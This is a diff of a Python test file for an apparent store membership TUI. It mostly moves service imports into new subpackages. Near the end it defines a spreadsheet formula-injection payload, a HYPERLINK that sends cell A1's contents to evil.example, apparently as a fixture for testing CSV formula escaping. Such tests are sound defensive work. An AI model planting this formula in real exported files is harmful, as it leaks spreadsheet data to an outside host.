@@ -16,11 +16,9 @@ import pytest
 
 from mms_tui import clock
 from mms_tui.models import TENDERS, Card, Entry, Store, Transaction
-from mms_tui.services import export as export_service
-from mms_tui.services.checkin import check_in
-from mms_tui.services.checkout import checkout
-from mms_tui.services.errors import DomainError, InvalidInput, UnknownMember
-from mms_tui.services.export import (
+from mms_tui.services.base.errors import DomainError, InvalidInput, UnknownMember
+from mms_tui.services.exchange import export as export_service
+from mms_tui.services.exchange.export import (
     LEDGER_COLUMNS,
     SALE_COLUMNS,
     escape_formula,
@@ -30,9 +28,11 @@ from mms_tui.services.export import (
     table_rows,
     yuan,
 )
-from mms_tui.services.fields import MEMBER_COLUMNS
-from mms_tui.services.members import issue_card, register_member
-from mms_tui.services.topup import top_up
+from mms_tui.services.exchange.fields import MEMBER_COLUMNS
+from mms_tui.services.members.checkin import check_in
+from mms_tui.services.members.records import issue_card, register_member
+from mms_tui.services.money.checkout import checkout
+from mms_tui.services.money.topup import top_up
 
 BOM = b"\xef\xbb\xbf"
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
